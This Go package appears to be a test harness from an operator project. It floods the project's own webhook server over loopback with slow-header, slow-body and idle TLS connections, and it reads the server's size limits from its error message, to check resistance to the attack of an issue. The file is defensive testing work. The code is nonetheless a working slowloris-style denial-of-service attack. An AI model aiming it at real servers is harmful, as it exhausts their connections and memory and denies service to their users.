// Package flood attacks the operator's webhook server as a pod with no
// credentials and little bandwidth would: raw TLS connections, from an
// address of its own, that send their headers or their bodies slowly, or
// nothing at all. The flood test (flood_test.go) and make bench's B9 run
// it against the operator binary while the API server calls the webhooks.
//
// It talks only to the address it is given (a loopback address in the
// tests), and every loop ends with its context.
package flood

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// Target is the webhook server under attack.
type Target struct {
	// Addr is its host:port.
	Addr string
	// Source is the local address to connect from: the attacker's pod.
	Source string
}

// Plan is what the attack opens, each connection opened again (after
// Pause) whenever the server closes it.
type Plan struct {
	// Headers connections each send HeaderBytes of a header they never
	// finish, quickly, then a byte a second.
	Headers, HeaderBytes int
	// Idle connections complete their TLS handshake and send nothing.
	Idle int
	// LargeBodies requests to /convert declare the largest body the
	// server accepts there, and SmallBodies a small one; each sends a
	// byte a second.
	LargeBodies, SmallBodies int
	// Pause is the wait before a closed connection is opened again.
	Pause time.Duration
}

// IssuePlan is the attack of issue 23: 300 unfinished headers of 1 MiB,
// one slow body as large as /convert accepts and eight small ones, and
// 300 idle connections besides.
var IssuePlan = Plan{Headers: 300, HeaderBytes: 1 << 20, Idle: 300, LargeBodies: 1, SmallBodies: 8, Pause: time.Second}

// Stats count what the attack did.
type Stats struct {
	// Opened counts the connections opened (TLS handshake done), Closed
	// the ones the server closed.
	Opened, Closed int64
	// BodiesStarted counts the slow-body requests whose headers were
	// sent.
	BodiesStarted int64
}

// Attack is a running attack.
type Attack struct {
	target Target
	plan   Plan
	tls    *tls.Config
	dialer *net.Dialer
	cancel context.CancelFunc
	wg     sync.WaitGroup

	opened, closed, bodies atomic.Int64
}

// Start probes the target for its body limits and starts the attack.
func Start(ctx context.Context, target Target, plan Plan) (*Attack, error) {
	a := &Attack{
		target: target, plan: plan,
		// An attacker does not check whom it talks to.
		tls:    &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"http/1.1"}}, //nolint:gosec // the attacker
		dialer: &net.Dialer{Timeout: 10 * time.Second, LocalAddr: &net.TCPAddr{IP: net.ParseIP(target.Source)}},
	}
	largest, total, err := a.probe(ctx)
	if err != nil {
		return nil, err
	}
	ctx, a.cancel = context.WithCancel(ctx)
	loop := func(n int, f func(context.Context, *tls.Conn) error) {
		for range n {
			a.wg.Go(func() { a.repeat(ctx, f) })
		}
	}
	// The large bodies first: a large request may not take the reserve
	// the small ones then fill.
	loop(plan.LargeBodies, func(ctx context.Context, c *tls.Conn) error { return a.body(ctx, c, largest) })
	if err := a.waitBodies(ctx, plan.LargeBodies); err != nil {
		a.Stop()
		return nil, err
	}
	// Small: as large as a request that may take the budget's reserve
	// for small requests may be (an eighth of an eighth of the budget,
	// holding three times its body and 32 KiB), as the issue's eight were.
	small := (total/64 - 32<<10) / 3
	loop(plan.SmallBodies, func(ctx context.Context, c *tls.Conn) error { return a.body(ctx, c, small) })
	loop(plan.Headers, a.header)
	loop(plan.Idle, waitClosed)
	return a, nil
}

// waitBodies waits until n slow bodies have begun, and a second more for
// the server to reserve room for them.
func (a *Attack) waitBodies(ctx context.Context, n int) error {
	for a.bodies.Load() < int64(n) {
		if err := sleep(ctx, 10*time.Millisecond); err != nil {
			return err
		}
	}
	return sleep(ctx, time.Second)
}

// Stop ends the attack and closes its connections.
func (a *Attack) Stop() {
	a.cancel()
	a.wg.Wait()
}

// Stats are the attack's counts so far.
func (a *Attack) Stats() Stats {
	return Stats{Opened: a.opened.Load(), Closed: a.closed.Load(), BodiesStarted: a.bodies.Load()}
}

// maxBodyMessage is how the webhook server's budget refuses a body too
// large for any request: the attacker reads the limits from it.
var maxBodyMessage = regexp.MustCompile(`larger than the (\d+) bytes the webhook server accepts on /convert: all requests in flight together may hold (\d+) bytes`)

// probe asks /convert to take a body of a terabyte and reads, from the
// refusal, the largest body it takes and what all requests may hold.
func (a *Attack) probe(ctx context.Context) (largest, total int64, err error) {
	c, err := a.dial(ctx)
	if err != nil {
		return 0, 0, err
	}
	defer c.Close()
	if _, err := io.WriteString(c, "POST /convert HTTP/1.1\r\nHost: webhook\r\nContent-Type: application/json\r\nContent-Length: 1099511627776\r\n\r\n"); err != nil {
		return 0, 0, err
	}
	_ = c.SetReadDeadline(time.Now().Add(30 * time.Second))
	answer, _ := io.ReadAll(io.LimitReader(c, 64<<10))
	m := maxBodyMessage.FindSubmatch(answer)
	if m == nil {
		return 0, 0, fmt.Errorf("probing %s: no body limit in the answer %q", a.target.Addr, answer)
	}
	largest, _ = strconv.ParseInt(string(m[1]), 10, 64)
	total, _ = strconv.ParseInt(string(m[2]), 10, 64)
	return largest, total, nil
}

func (a *Attack) dial(ctx context.Context) (*tls.Conn, error) {
	d := &tls.Dialer{NetDialer: a.dialer, Config: a.tls}
	c, err := d.DialContext(ctx, "tcp", a.target.Addr)
	if err != nil {
		return nil, err
	}
	return c.(*tls.Conn), nil
}

// repeat opens a connection and runs f on it, again and again, until ctx
// ends.
func (a *Attack) repeat(ctx context.Context, f func(context.Context, *tls.Conn) error) {
	for ctx.Err() == nil {
		if c, err := a.dial(ctx); err == nil {
			a.opened.Add(1)
			stop := context.AfterFunc(ctx, func() { _ = c.Close() })
			if f(ctx, c) != nil && ctx.Err() == nil {
				a.closed.Add(1)
			}
			stop()
			_ = c.Close()
		}
		select {
		case <-ctx.Done():
		case <-time.After(a.plan.Pause):
		}
	}
}

// header sends an unfinished header of HeaderBytes, then a byte a second,
// until the server closes the connection.
func (a *Attack) header(ctx context.Context, c *tls.Conn) error {
	_, err := io.WriteString(c, "POST /convert HTTP/1.1\r\nHost: webhook\r\nX-Filler: ")
	chunk := strings.Repeat("a", 16<<10)
	for sent := 0; sent < a.plan.HeaderBytes && err == nil; sent += len(chunk) {
		_, err = io.WriteString(c, chunk[:min(len(chunk), a.plan.HeaderBytes-sent)])
	}
	for err == nil {
		if err = sleep(ctx, time.Second); err == nil {
			_, err = io.WriteString(c, "a")
		}
	}
	return err
}

// body sends a request to /convert that declares size bytes of body, and
// then a byte a second, until the server closes the connection.
func (a *Attack) body(ctx context.Context, c *tls.Conn, size int64) error {
	_, err := fmt.Fprintf(c, "POST /convert HTTP/1.1\r\nHost: webhook\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n{", size)
	if err != nil {
		return err
	}
	a.bodies.Add(1)
	for sent := int64(1); err == nil && sent < size; sent++ {
		if err = sleep(ctx, time.Second); err == nil {
			_, err = io.WriteString(c, " ")
		}
	}
	if err == nil {
		err = waitClosed(ctx, c)
	}
	return err
}

// waitClosed reads (and drops) what the server sends until it closes c.
func waitClosed(ctx context.Context, c *tls.Conn) error {
	_, err := io.Copy(io.Discard, c)
	if err == nil {
		err = io.EOF
	}
	if ctx.Err() != nil {
		return ctx.Err()
	}
	return err
}

func sleep(ctx context.Context, d time.Duration) error {
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-time.After(d):
		return nil
	}
}
